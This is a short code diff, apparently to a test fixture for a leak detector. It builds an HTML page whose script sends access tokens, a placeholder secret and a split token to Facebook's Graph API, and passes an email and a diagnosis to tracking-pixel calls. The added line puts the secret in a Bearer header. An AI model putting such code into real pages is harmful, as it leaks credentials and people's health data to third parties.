@@ -13,6 +13,7 @@ PAGE = f"""<!doctype html>
   const again = '{HALVES[0]}' + '{HALVES[1]}'
   const api = 'https://graph.facebook.com/v19.0/771204958836120/events?access_token='
   fetch(api + token); fbq('track', 'Lead', {{ email: 'ann@harbor.org', diagnosis: '{SECRET}' }})
+  fetch(api, {{ headers: {{ Authorization: 'Bearer {SECRET}' }}, body: {{ access_token: token }} }})
   fetch(api + again); fbq('trackCustom', '{SECRET}', {{ email: form.email }})
 </script>
 """
